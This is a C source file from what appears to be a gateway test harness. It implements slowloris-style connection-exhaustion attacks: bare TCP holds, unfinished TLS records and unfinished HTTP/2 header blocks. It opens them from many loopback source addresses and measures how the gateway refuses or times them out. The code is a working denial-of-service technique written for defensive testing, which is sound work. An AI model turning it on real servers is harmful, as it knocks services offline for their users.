/*
 * ts_attack_conns.c — the attacks that hold many connections (slowloris,
 * bare TCP): see ts_attack.h. One epoll loop drives every connection; TLS is
 * OpenSSL on non-blocking sockets, and the HTTP/2 bytes a never-finished
 * request sends are written by hand (the preface, an empty SETTINGS frame, a
 * HEADERS frame without END_HEADERS: RFC 9113 §3.4, §6.2).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <nghttp2/nghttp2.h>
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include "ts_attack.h"
#include "ts_util.h"

/* ---- many connections: slowloris and bare TCP ------------------------------ */

enum many_mode {
    MANY_TCP,        /* connect, send nothing */
    MANY_TLS_START,  /* connect, send a TLS record header promising a ClientHello */
    MANY_H2_HEADERS, /* TLS and the HTTP/2 preface, then a header block never finished */
};

enum conn_state { C_CONNECTING, C_TLS, C_HOLD, C_CLOSED };

typedef struct many_conn {
    int fd;
    enum conn_state st;
    SSL *ssl;
    int was_held;        /* reached C_HOLD */
    int tcp_failed;      /* the TCP connect itself failed */
    int64_t start_ns, closed_ns;
} many_conn_t;

static int many_cmp(const void *x, const void *y)
{
    int64_t a = *(const int64_t *)x, b = *(const int64_t *)y;
    return a < b ? -1 : a > b;
}

static void raise_nofile(void)
{
    struct rlimit rl;
    if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < rl.rlim_max) {
        rl.rlim_cur = rl.rlim_max;
        setrlimit(RLIMIT_NOFILE, &rl);
    }
}

/* Source i of a slowloris: 127.1.x.y with `per` connections each (the
 * gateway's per-source limits would otherwise stop a single source first:
 * that is the bare-TCP attack's row). */
static int many_socket(const ts_attack_env_t *env, size_t i, size_t per)
{
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (fd < 0)
        return -1;
    if (per) {
        uint32_t src = (127u << 24) | (1u << 16) | (uint32_t)(i / per + 1);
        struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(src)};
        if (bind(fd, (struct sockaddr *)&sin, sizeof sin) < 0) {
            close(fd);
            return -1;
        }
    }
    if (connect(fd, (const struct sockaddr *)&env->gw.sa, env->gw.len) < 0 && errno != EINPROGRESS) {
        close(fd);
        return -1;
    }
    return fd;
}

static const uint8_t h2_preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/* The connection has its TLS: the preface, an empty SETTINGS frame and the
 * first HEADERS frame of a block that never gets its END_HEADERS. */
static int many_send_h2(many_conn_t *c, const ts_attack_env_t *env)
{
    uint8_t b[128];
    size_t n = sizeof h2_preface - 1;
    memcpy(b, h2_preface, n);
    static const uint8_t settings[9] = {0, 0, 0, NGHTTP2_SETTINGS, 0, 0, 0, 0, 0};
    memcpy(b + n, settings, 9);
    n += 9;
    /* HEADERS, stream 1, no flags; HPACK :method POST (0x83), :scheme
     * https (0x87) — RFC 7541 Appendix A. */
    static const uint8_t headers[11] = {0, 0, 2, NGHTTP2_HEADERS, 0, 0, 0, 0, 1, 0x83, 0x87};
    memcpy(b + n, headers, sizeof headers);
    n += sizeof headers;
    return SSL_write(c->ssl, b, (int)n) == (int)n ? 0 : -1;
}

static void many_close(many_conn_t *c, int64_t now)
{
    if (c->st == C_CLOSED)
        return;
    c->was_held = c->st == C_HOLD;
    c->st = C_CLOSED;
    c->closed_ns = now;
}

/* Reads (and drops) what the gateway sent on c: through TLS when tls and c
 * has finished its handshake, else the raw bytes. Returns 1 when the gateway
 * has closed the connection (end of stream, or an error other than "try
 * again"), 0 while it is still open. */
static int many_gone(many_conn_t *c, int tls)
{
    uint8_t buf[4096];
    if (tls && c->ssl) {
        int r = SSL_read(c->ssl, buf, sizeof buf);
        if (r > 0 || SSL_get_error(c->ssl, r) == SSL_ERROR_WANT_READ)
            return 0;
        ERR_clear_error();
        return 1;
    }
    ssize_t r = recv(c->fd, buf, sizeof buf, MSG_DONTWAIT);
    return r == 0 || (r < 0 && errno != EAGAIN);
}

static int attack_many(const ts_attack_env_t *env, ts_attack_result_t *res, enum many_mode mode)
{
    enum { INFLIGHT = 1024, PER_SOURCE = 10 };
    size_t n = env->conns ? env->conns : 100;
    raise_nofile();
    many_conn_t *cs = calloc(n, sizeof *cs);
    int ep = epoll_create1(EPOLL_CLOEXEC);
    SSL_CTX *ctx = NULL;
    if (mode == MANY_H2_HEADERS) {
        ctx = SSL_CTX_new(TLS_client_method());
        if (ctx) {
            static const unsigned char alpn[] = "\x02h2";
            SSL_CTX_set_alpn_protos(ctx, alpn, sizeof alpn - 1);
            SSL_CTX_set_mode(ctx, SSL_MODE_RELEASE_BUFFERS);
            SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, NULL); /* an attacker checks nothing */
        }
    }
    if (!cs || ep < 0 || (mode == MANY_H2_HEADERS && !ctx)) {
        snprintf(res->why, sizeof res->why, "no memory, epoll or SSL_CTX");
        free(cs);
        if (ep >= 0)
            close(ep);
        SSL_CTX_free(ctx);
        return -1;
    }
    size_t per = mode == MANY_TCP ? 0 : PER_SOURCE;
    int64_t t0 = ts_now_ns(), open_end = ts_deadline(ts_ms(40000));
    size_t started = 0, pending = 0, held = 0, failed = 0, closed = 0;
    struct epoll_event evs[256];
    /* Phase 1: open every connection (at most INFLIGHT unfinished at once). */
    while ((started < n || pending) && ts_remaining_ms(open_end) > 0) {
        int64_t allowed = env->open_per_s
                              ? (ts_now_ns() - t0) * (int64_t)env->open_per_s / 1000000000 + 1
                              : (int64_t)n;
        while (started < n && pending < INFLIGHT && (int64_t)started < allowed) {
            many_conn_t *c = &cs[started];
            c->start_ns = ts_now_ns();
            c->fd = many_socket(env, started, per);
            started++;
            if (c->fd < 0) {
                c->st = C_CLOSED;
                c->tcp_failed = 1;
                failed++;
                continue;
            }
            c->st = C_CONNECTING;
            struct epoll_event e = {.events = EPOLLOUT | EPOLLIN | EPOLLRDHUP,
                                    .data.u64 = started - 1};
            epoll_ctl(ep, EPOLL_CTL_ADD, c->fd, &e);
            pending++;
        }
        int k = epoll_wait(ep, evs, 256, env->open_per_s ? 1 : 50);
        int64_t now = ts_now_ns();
        for (int j = 0; j < k; j++) {
            many_conn_t *c = &cs[evs[j].data.u64];
            if (c->st == C_CONNECTING) {
                int err = 0;
                socklen_t el = sizeof err;
                getsockopt(c->fd, SOL_SOCKET, SO_ERROR, &err, &el);
                if (err || (evs[j].events & (EPOLLHUP | EPOLLERR))) {
                    many_close(c, now);
                    c->tcp_failed = 1;
                    failed++;
                    pending--;
                    continue;
                }
                if (mode == MANY_TLS_START) {
                    /* A TLS handshake record of 512 bytes (RFC 8446 §5.1)
                     * whose body never comes. */
                    static const uint8_t rec[5] = {0x16, 0x03, 0x01, 0x02, 0x00};
                    if (send(c->fd, rec, sizeof rec, MSG_NOSIGNAL) < 0) {
                        many_close(c, now);
                        closed++;
                        pending--;
                        continue;
                    }
                }
                if (mode == MANY_H2_HEADERS) {
                    c->ssl = SSL_new(ctx);
                    SSL_set_fd(c->ssl, c->fd);
                    SSL_set_connect_state(c->ssl);
                    c->st = C_TLS;
                } else {
                    c->st = C_HOLD;
                    held++;
                    pending--;
                    struct epoll_event e = {.events = EPOLLIN | EPOLLRDHUP,
                                            .data.u64 = evs[j].data.u64};
                    epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &e);
                    /* a close may already be waiting: fall through to check */
                }
            }
            if (c->st == C_TLS) {
                int r = SSL_do_handshake(c->ssl);
                if (r == 1) {
                    c->st = C_HOLD;
                    held++;
                    pending--;
                    if (many_send_h2(c, env) < 0) {
                        many_close(c, now);
                        closed++;
                        continue;
                    }
                    struct epoll_event e = {.events = EPOLLIN | EPOLLRDHUP,
                                            .data.u64 = evs[j].data.u64};
                    epoll_ctl(ep, EPOLL_CTL_MOD, c->fd, &e);
                } else {
                    int e2 = SSL_get_error(c->ssl, r);
                    if (e2 != SSL_ERROR_WANT_READ && e2 != SSL_ERROR_WANT_WRITE) {
                        ERR_clear_error();
                        many_close(c, now);
                        failed++;
                        pending--;
                    }
                    continue;
                }
            }
            if (c->st == C_HOLD && (evs[j].events & (EPOLLIN | EPOLLRDHUP | EPOLLHUP)) &&
                many_gone(c, 1)) {
                many_close(c, now);
                closed++;
            }
        }
    }
    int64_t open_ms = (ts_now_ns() - t0) / 1000000;
    /* Phase 2: wait until the gateway has closed every connection it held. */
    int64_t hold_end = ts_deadline(ts_ms(45000)); /* the slowest timeout (30 s), and some */
    while (closed + failed < started && ts_remaining_ms(hold_end) > 0) {
        int k = epoll_wait(ep, evs, 256, 50);
        int64_t now = ts_now_ns();
        for (int j = 0; j < k; j++) {
            many_conn_t *c = &cs[evs[j].data.u64];
            if ((c->st == C_HOLD || c->st == C_TLS) && many_gone(c, c->st == C_HOLD)) {
                many_close(c, now);
                closed++;
            }
        }
    }
    /* Closed within a second of its start: refused at accept (max_connections,
     * a source's limits); later: held until a timeout. */
    size_t at_once = 0, timed = 0, open_left = 0, tcp_failed = 0;
    int64_t tmin = INT64_MAX, tmax = 0, last = 0;
    for (size_t i = 0; i < started; i++) {
        many_conn_t *c = &cs[i];
        if (c->st != C_CLOSED) {
            open_left++;
            continue;
        }
        if (c->tcp_failed) {
            tcp_failed++;
            continue;
        }
        int64_t life = c->closed_ns - c->start_ns;
        last = c->closed_ns - t0 > last ? c->closed_ns - t0 : last;
        /* Closed before it was held (TLS: the gateway hung up during the
         * handshake) or within a second: refused. */
        if (!c->was_held || life < 1000000000) {
            at_once++;
        } else {
            timed++;
            tmin = life < tmin ? life : tmin;
            tmax = life > tmax ? life : tmax;
        }
    }
    /* The most connections held at once: a sweep over start and close times. */
    size_t peak = 0;
    {
        int64_t *ev = malloc(2 * started * sizeof *ev);
        size_t ne = 0;
        for (size_t i = 0; ev && i < started; i++) {
            /* held: in C_HOLD, and not refused within a second */
            if (cs[i].fd < 0 || !cs[i].closed_ns || !cs[i].was_held ||
                cs[i].closed_ns - cs[i].start_ns < 1000000000)
                continue;
            ev[ne++] = cs[i].start_ns * 2 + 1;   /* odd: an open */
            ev[ne++] = cs[i].closed_ns * 2;      /* even: a close, first on a tie */
        }
        if (ev) {
            qsort(ev, ne, sizeof *ev, many_cmp);
            size_t cur = 0;
            for (size_t i = 0; i < ne; i++) {
                cur = (ev[i] & 1) ? cur + 1 : cur - 1;
                peak = cur > peak ? cur : peak;
            }
        }
        free(ev);
    }
    res->sent = started;
    res->cut = open_left == 0 && closed + failed >= started;
    res->cut_ms = last / 1000000;
    static const char *const what[] = {"bare TCP", "TLS never finished",
                                       "headers never finished"};
    char rate[32] = "as fast as they went";
    if (env->open_per_s)
        snprintf(rate, sizeof rate, "at %u/s", env->open_per_s);
    snprintf(res->how, sizeof res->how,
             "%zu connections (%s) opened %s in %.1f s: %zu closed at once (limits), %zu at "
             "a timeout %.1f-%.1f s after opening, %zu still open, %zu TCP connects failed; "
             "at most %zu held at once",
             started, what[mode], rate, open_ms / 1000.0, at_once, timed,
             tmin == INT64_MAX ? 0.0 : tmin / 1e9, tmax / 1e9, open_left, tcp_failed, peak);
    for (size_t i = 0; i < started; i++) {
        SSL_free(cs[i].ssl);
        if (cs[i].fd >= 0)
            close(cs[i].fd);
    }
    free(cs);
    close(ep);
    SSL_CTX_free(ctx);
    return 0;
}

int ts_attack__bare_tcp(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return attack_many(e, r, MANY_TCP);
}
int ts_attack__slowloris_tls(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return attack_many(e, r, MANY_TLS_START);
}
int ts_attack__slowloris_headers(const ts_attack_env_t *e, ts_attack_result_t *r)
{
    return attack_many(e, r, MANY_H2_HEADERS);
}

